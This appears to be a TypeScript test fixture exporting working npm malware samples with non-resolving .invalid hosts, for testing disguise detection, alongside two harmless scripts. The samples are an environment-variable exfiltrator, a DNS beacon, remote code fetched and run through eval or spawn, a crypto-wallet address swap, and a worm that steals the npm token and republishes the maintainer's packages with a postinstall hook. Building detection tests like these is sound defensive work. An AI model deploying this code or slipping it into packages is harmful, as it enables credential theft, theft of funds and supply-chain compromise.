/** Inert npm payloads of several kinds for tests of disguises, and code that does the same kind of thing and harms nobody. Hosts never resolve (RFC 2606). */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'theft of the environment over HTTPS': `const https = require('https');
const body = JSON.stringify(process.env);
const request = https.request({ hostname: 'collect.invalid', path: '/in', method: 'POST', headers: { 'Content-Length': body.length } });
request.write(body);
request.end();`,
  'a DNS beacon': `const dns = require('dns'), os = require('os');
const who = Buffer.from(os.userInfo().username + '|' + os.hostname() + '|' + process.cwd()).toString('hex');
const parts = who.match(/.{1,60}/g);
for (let i = 0; i < parts.length; i++) dns.lookup(parts[i] + '.' + i + '.beacon.invalid', function () {});`,
  'downloaded code that is evaluated': `const http = require('http');
http.get('http://code.invalid/stage', function (response) {
  let text = '';
  response.on('data', function (chunk) { text += chunk; });
  response.on('end', function () { eval(text); });
});`,
  'a program that is downloaded and run': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
const file = path.join(os.tmpdir(), 'helper.exe');
https.get('https://files.invalid/helper.exe', function (response) {
  const out = fs.createWriteStream(file);
  response.pipe(out);
  out.on('finish', function () { out.close(); cp.spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); });
});`,
  'a swap of wallet addresses': `(function () {
  const mine = '0x00000000000000000000000000000000000DEAD1';
  const old = window.ethereum.request;
  window.ethereum.request = function (call) {
    if (call.method === 'eth_sendTransaction') call.params[0].to = mine;
    return old.apply(this, arguments);
  };
})();`,
  'a worm that publishes itself': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process'), https = require('https');
const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const token = /_authToken=(.+)/.exec(rc)[1];
https.get({ hostname: 'registry.invalid', path: '/-/whoami', headers: { authorization: 'Bearer ' + token } }, function (response) {
  let text = '';
  response.on('data', function (chunk) { text += chunk; });
  response.on('end', function () {
    const me = JSON.parse(text).username;
    https.get('https://registry.invalid/-/v1/search?text=maintainer:' + me, function (answer) {
      let list = '';
      answer.on('data', function (chunk) { list += chunk; });
      answer.on('end', function () {
        JSON.parse(list).objects.forEach(function (one) {
          const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'w-'));
          cp.execSync('npm pack ' + one.package.name + ' && tar -xzf *.tgz', { cwd: dir });
          const file = path.join(dir, 'package', 'package.json');
          const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
          manifest.scripts = { postinstall: 'node setup.js' };
          fs.writeFileSync(file, JSON.stringify(manifest));
          fs.copyFileSync(__filename, path.join(dir, 'package', 'setup.js'));
          cp.execSync('npm publish', { cwd: path.join(dir, 'package') });
        });
      });
    });
  });
});`,
};

/** What an honest hook or module may do: the same interfaces, nothing taken, nothing fetched that runs. */
export const HARMLESS: Readonly<Record<string, string>> = {
  'a greeting': "const os = require('os');\nif (!process.env.CI) console.log('Thank you for installing forged on ' + os.platform() + '!');",
  'a table of primes': "const primes = [];\nfor (let n = 2; primes.length < 20; n++) if (primes.every(function (p) { return n % p; })) primes.push(n);\nmodule.exports = primes;",
};
